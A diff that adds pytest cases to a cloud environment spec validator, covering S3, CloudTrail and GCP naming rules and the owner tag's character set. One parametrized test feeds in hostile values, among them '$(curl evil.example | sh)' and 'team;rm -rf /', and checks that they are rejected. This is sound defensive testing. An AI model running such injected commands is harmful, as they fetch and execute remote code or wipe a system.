@@ -179,3 +179,43 @@ def test_expired_transfer_exemption_is_named_as_expired(example_spec, spec) -> N
     raw["exemptions"] = [spec.exemption("gdpr-data-residency", raw["name"], "2025-12-31")]
     issue = spec.issue_at(spec.issues(raw), "region")
     assert "outside the EU/EEA" in issue.message and "expired on 2025-12-31" in issue.message
+
+
+# --- names the cloud would refuse ------------------------------------------------------------
+
+
+def test_environment_name_the_clouds_refuse_is_charged_to_name_once(example_spec, spec) -> None:
+    raw = example_spec("aws")
+    raw["name"] = "xn--prod"
+    issues = spec.issues(raw)
+    s3 = [i for i in issues if "S3 bucket name" in i.message]
+    assert {i.field for i in s3} == {"name"}  # not repeated on every bucket
+    assert "starts with 'xn--'" in s3[0].message and "bucketnamingrules" in s3[0].message
+    assert any(i.field == "name" and "CloudTrail trail name" in i.message for i in issues)  # '--'
+
+
+def test_adjacent_dashes_break_the_trail_name(example_spec, spec) -> None:
+    raw = example_spec("aws")
+    raw["name"] = "ml--prod"
+    issue = spec.issue_at(spec.issues(raw), "name")
+    assert "'ml--prod-audit'" in issue.message and "contains '--'" in issue.message
+
+
+def test_bucket_name_google_refused_on_gcp_at_the_bucket(example_spec, spec) -> None:
+    raw = example_spec("gcp")
+    raw["data"]["buckets"][0]["name"] = "google-data"
+    issue = spec.issue_at(spec.issues(raw), "data.buckets[0].name")
+    assert "Cloud Storage bucket name" in issue.message and "contains 'google'" in issue.message
+
+
+def test_gcp_project_id_with_google_refused(example_spec, spec) -> None:
+    raw = example_spec("gcp")
+    raw["account"] = "google-ml-4711"
+    assert "may not contain 'google'" in spec.issue_at(spec.issues(raw), "account").message
+
+
+@pytest.mark.parametrize("owner", ["$(curl evil.example | sh)", "a" * 64, "team;rm -rf /", "<script>"])
+def test_owner_tag_value_outside_the_tag_character_set_refused(owner: str) -> None:
+    text = aws_text().replace("owner: ml-platform", f"owner: '{owner}'")
+    (issue,) = issues_of(text)
+    assert issue.field == "owner" and issue.line == text.splitlines().index(f"    owner: '{owner}'") + 1
